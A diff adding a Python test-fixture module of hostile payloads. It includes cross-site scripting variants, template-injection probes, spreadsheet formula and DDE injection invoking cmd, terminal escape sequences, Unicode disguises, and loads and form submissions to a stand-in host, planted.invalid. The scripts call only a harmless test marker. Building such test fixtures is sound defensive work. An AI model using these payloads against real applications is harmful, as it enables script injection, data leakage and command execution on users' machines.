@@ -1,0 +1,190 @@
+"""Hostile texts for tests: what somebody might plant in a cell, a name or a notebook."""
+
+from __future__ import annotations
+
+CALL = "planted()"
+"""What every planted script calls; a test defines it and looks whether it was called."""
+
+_SCRIPTS = (
+    f"<script>{CALL}</script>",
+    f"<SCRIPT>{CALL}</SCRIPT >",
+    f"<script\x0c>{CALL}</script>",
+    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
+    f"</script><script>{CALL}</script>",
+    f"</SCRIPT\t><script>{CALL}//",
+    f"<!--<script>{CALL}</script>",
+    f"--><script>{CALL}</script><!--",
+    f"<![CDATA[<script>{CALL}</script>]]>",
+    f"<?xml version='1.0'?><script>{CALL}</script>",
+    f"</title><script>{CALL}</script>",
+    f"</style><script>{CALL}</script>",
+    f"</textarea><script>{CALL}</script>",
+    f"</data></a></td></table></main><script>{CALL}</script>",
+    f"<script type=module>{CALL}</script>",
+    f"<script src=data:text/javascript,{CALL}></script>",
+    "<script src=https://planted.invalid/a.js></script>",
+    f"<noscript><p title='</noscript><script>{CALL}</script>'>",
+    f"<template><script>{CALL}</script></template>",
+    f"<math><mtext><script>{CALL}</script></mtext></math>",
+    f"\ufeff<script>{CALL}</script>",
+    f"＜script＞{CALL}＜/script＞",
+    f"%3Cscript%3E{CALL}%3C/script%3E",
+    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
+    f"&lt;script&gt;{CALL}&lt;/script&gt;",
+    f"&#60;script&#62;{CALL}&#60;/script&#62;",
+    f"&amp;lt;script&amp;gt;{CALL}",
+    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
+)
+_EVENTS = ("error", "load", "click", "focus", "mouseover", "toggle", "animationstart", "begin")
+_TAGS = (
+    "img src=x",
+    "svg",
+    "body",
+    "input autofocus",
+    "details open",
+    "video src=x",
+    "audio src=x",
+    "iframe src=x",
+    "marquee",
+    "object data=x",
+    "select autofocus",
+    "a href=x",
+)
+_HANDLERS = tuple(f"<{tag} on{event}={CALL}>" for tag in _TAGS for event in _EVENTS)
+_ATTRIBUTES = (
+    f'" onmouseover="{CALL}" x="',
+    f"' onmouseover='{CALL}' x='",
+    f'"><img src=x onerror={CALL}>',
+    f"'><img src=x onerror={CALL}>",
+    f"` onmouseover={CALL} `",
+    f'" autofocus onfocus={CALL} "',
+    f'"><svg onload={CALL}>',
+    f"x\x00onerror={CALL}",
+    f"<img/src=x/onerror={CALL}>",
+    f"<img src=x oNeRrOr={CALL}>",
+    f"<img src=x onerror\x0b={CALL}>",
+    f"<img src=x onerror=\n{CALL}>",
+    f"<img src='x' onerror=`{CALL}`>",
+    f'<data class="value" value="9" data-key="N-01" onclick="{CALL}">9次</data>',
+    f'<a href="#evidence-N-01" onclick="{CALL}">10次</a>',
+    f"<p id=tongbi-manifest onclick={CALL}>x</p>",
+)
+_ADDRESSES = (
+    f"javascript:{CALL}",
+    f"JaVaScRiPt:{CALL}",
+    f"java\tscript:{CALL}",
+    f"java\nscript:{CALL}",
+    f" \x01javascript:{CALL}",
+    f"&#106;avascript:{CALL}",
+    f"javascript&colon;{CALL}",
+    f"vbscript:{CALL}",
+    f"data:text/html,<script>{CALL}</script>",
+    "data:text/html;base64,PHNjcmlwdD5wbGFudGVkKCk8L3NjcmlwdD4=",
+    "//planted.invalid/a",
+    "https://planted.invalid/a?x=1&y=2",
+    "file:///etc/passwd",
+    "\\\\planted.invalid\\share",
+)
+_LINKS = (
+    *(f'<a href="{address}">看</a>' for address in _ADDRESSES),
+    *(f"[看]({address})" for address in _ADDRESSES[:6]),
+    f"![图](x){{onerror={CALL}}}",
+    f"<https://planted.invalid/{CALL}>",
+    f"[x]: javascript:{CALL}",
+)
+_LOADS = (
+    "<link rel=stylesheet href=https://planted.invalid/a.css>",
+    "<link rel=prefetch href=https://planted.invalid/a>",
+    "<link rel=dns-prefetch href=//planted.invalid>",
+    "<meta http-equiv=refresh content='0;url=https://planted.invalid/'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
+    "<base href=https://planted.invalid/>",
+    "<img src=https://planted.invalid/a.png>",
+    "<img srcset='https://planted.invalid/a.png 2x'>",
+    "<picture><source srcset=https://planted.invalid/a.png><img></picture>",
+    "<iframe src=https://planted.invalid/></iframe>",
+    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
+    "<object data=https://planted.invalid/a.swf></object>",
+    "<embed src=https://planted.invalid/a.swf>",
+    "<video poster=https://planted.invalid/a.png></video>",
+    "<form action=https://planted.invalid/><input name=a><button>送</button></form>",
+    f"<button formaction=javascript:{CALL}>送</button>",
+    "<table background=https://planted.invalid/a.png><tr><td>x</td></tr></table>",
+    "![图](https://planted.invalid/a.png)",
+)
+_SVG = (
+    f"<svg><script>{CALL}</script></svg>",
+    f"<svg><a xlink:href='javascript:{CALL}'><text y=9>x</text></a></svg>",
+    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
+    f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
+    "<svg><image href=https://planted.invalid/a.png /></svg>",
+    "<svg><use href=https://planted.invalid/a.svg#x /></svg>",
+    f"<svg><set attributeName=onclick to={CALL}>",
+    f"<math href=javascript:{CALL}>x</math>",
+)
+_STYLES = (
+    "<style>body{display:none}</style>",
+    "<style>@import 'https://planted.invalid/a.css'</style>",
+    "<p style='background:url(https://planted.invalid/a.png)'>x</p>",
+    "<div style='position:fixed;inset:0;background:red'>x</div>",
+    f"<p style='width:expression({CALL})'>x</p>",
+    "}</style><style>*{visibility:hidden}",
+    f"<xss style='animation-name:x' onanimationstart={CALL}>",
+    "<p style=\"font-family:'x';behavior:url(#default)\">x</p>",
+)
+_TEMPLATES = (
+    "{{ 7*7 }}",
+    "{{ config }}",
+    "{{ ''.__class__.__mro__ }}",
+    "{% for x in range(9) %}a{% endfor %}",
+    "{# 注 #}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{0.__class__}",
+    "%(asctime)s%n%s",
+    "%{customdata[0]}",
+    "$$x^2$$",
+    f"$\\href{{javascript:{CALL}}}{{x}}$",
+    "`__import__('os')`",
+)
+_FORMULAS = (
+    "=cmd|'/c calc'!A1",
+    '=HYPERLINK("https://planted.invalid","看")',
+    "+1+cmd|'/c calc'!A1",
+    "-2+3+cmd|'/c calc'!A1",
+    "@SUM(1+1)*cmd|'/c calc'!A1",
+    '=WEBSERVICE("https://planted.invalid")',
+    "\t=1+1",
+    "\r=1+1",
+    '=DDE("cmd";"/c calc";"x")',
+)
+_TERMINAL = (
+    "\x1b[31m红\x1b[0m",
+    "\x1b[2J\x1b[H清屏",
+    "\x1b]0;改标题\x07",
+    "\x1b]8;;https://planted.invalid\x07看\x1b]8;;\x07",
+    "\x9b31m八位",
+    "\x07\x08\x08\x08退格",
+    "甲\r乙",
+    "a\x7fb",
+    '\x1bP$q"p\x1b\\',
+)
+_DISGUISES = (
+    "\u202e倒着写\u202c",
+    "\u2066隔开\u2069",
+    "\u200b零\u200c宽\u200d字\ufeff符",
+    "\u2028行\u2029段",
+    "a\u0300\u0301\u0302\u0303\u0304",
+    "\ud7ff\ufffe\uffff",
+    "甲\x00乙",
+    "\U000e0041标签",
+    "𝒥𝓈<b>粗</b>",
+    "😀" * 40,
+)
+_LONG = ("长" * 3000, "<b>" * 400, "<div>" * 300, "A" * 5000, "&" * 500, '"' * 300)
+
+PAYLOADS = (
+    *_SCRIPTS, *_HANDLERS, *_ATTRIBUTES, *_LINKS, *_LOADS, *_SVG, *_STYLES, *_TEMPLATES,
+    *_FORMULAS, *_TERMINAL, *_DISGUISES, *_LONG,
+)  # fmt: skip
